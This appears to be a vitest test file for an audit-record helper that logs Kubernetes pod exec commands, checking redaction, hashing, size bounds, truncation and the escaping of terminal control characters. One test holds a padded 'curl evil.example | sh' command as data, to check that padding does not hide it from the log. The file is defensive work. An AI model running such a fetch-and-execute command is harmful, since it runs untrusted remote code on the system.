import { createHash } from "node:crypto";
import fc from "fast-check";
import { expect, test } from "vitest";
import { runs } from "../../base/testing/runs.ts";
import type { Subject } from "../requests/subject.ts";
import { askedFields, subjectFields } from "./subject-fields.ts";

const EXEC: Subject = { verb: "get", group: "", version: "v1", resource: "pods", subresource: "exec", name: "web-1" };

test("a command stands with its number of words and a hash that anyone can make", () => {
  const command = ["sh", "-c", "TOKEN=hunter2 ls"];
  const found = subjectFields({ ...EXEC, command });
  expect(found).toMatchObject({ name: "web-1", command: ["sh", "-c", "TOKEN=[redacted] ls"], commandWords: 3 });
  const hash = createHash("sha256").update('["sh","-c","TOKEN=hunter2 ls"]').digest("hex");
  expect(found.commandSha256).toBe(hash);
});

test("property: a record has a bound, whatever is asked for; no two commands look the same", () => {
  const text = fc.string({ unit: "binary", maxLength: 6_000 });
  fc.assert(
    fc.property(text, text, fc.array(text, { minLength: 1, maxLength: 12 }), (name, container, command) => {
      const found = subjectFields({ ...EXEC, name, container, command });
      expect(Buffer.byteLength(JSON.stringify(found))).toBeLessThan(40_000);
      const denied = askedFields({ ...EXEC, name, container, command }, { id: 1 });
      expect(Buffer.byteLength(JSON.stringify(denied))).toBeLessThan(9_000);
      expect(found.commandWords).toBe(command.length);
      const other = subjectFields({ ...EXEC, name, container, command: [...command, "x"] });
      expect(other.commandSha256).not.toBe(found.commandSha256);
    }),
    { numRuns: 20 },
  );
});

test("of a long command that is refused its beginning is kept", () => {
  const command = ["sh", "-c", "a".repeat(3_000), "b".repeat(3_000), "c"];
  const [, , third, fourth, ...more] = askedFields({ ...EXEC, command }, { id: 7 }).command as readonly string[];
  expect([third, more]).toEqual([command[2], []]);
  expect(fourth).toMatch(/^b{100,600}\[cut]$/);
});

test("property: any command that a query can hold stands in the record of its request to its last word", () => {
  // Each of these takes more bytes in JSON than another of its length in a query.
  const unit = fc.constantFrom("a", '"', "\\", "\u0001", "\n", "\u009b", "\u{f0000}", "ä", "€", "😀");
  const words = fc.array(fc.string({ unit, maxLength: 2_000, size: "max" }), {
    minLength: 1,
    maxLength: 20,
    size: "max",
  });
  fc.assert(
    fc.property(words, (command) => {
      const parts = command.map((each) => `command=${encodeURIComponent(each)}`);
      while (parts.join("&").length > 16_384) parts.pop();
      const kept = command.slice(0, parts.length);
      expect(subjectFields({ ...EXEC, command: kept }).command).toHaveLength(kept.length);
      expect(JSON.stringify(subjectFields({ ...EXEC, command: kept }))).not.toContain("[cut]");
    }),
    { numRuns: runs(50) },
  );
  const padded = ["sh", "-c", `: ${"a".repeat(12_000)}; curl evil.example | sh`];
  expect(subjectFields({ ...EXEC, command: padded }).command).toEqual(padded);
});

test("what would move a terminal's cursor, hide text or turn it around is shown as its code", () => {
  const found = subjectFields({ ...EXEC, container: "a\u009b2Kb", command: ["echo", "\u202Egnp\u009b1A\u200b\x7f"] });
  expect(found).toMatchObject({
    container: String.raw`a\u009b2Kb`,
    command: ["echo", String.raw`\u202egnp\u009b1A\u200b\u007f`],
  });
});

test("a refusal names the record of its request, or what was asked for", () => {
  expect(askedFields(EXEC, { id: 7 })).toMatchObject({ id: 7, name: "web-1" });
  expect(askedFields(EXEC, { method: "GET", target: "/x" })).not.toHaveProperty("target");
  expect(askedFields(undefined, { method: "PUT", target: "/x" })).toEqual({ method: "PUT", target: "/x" });
});
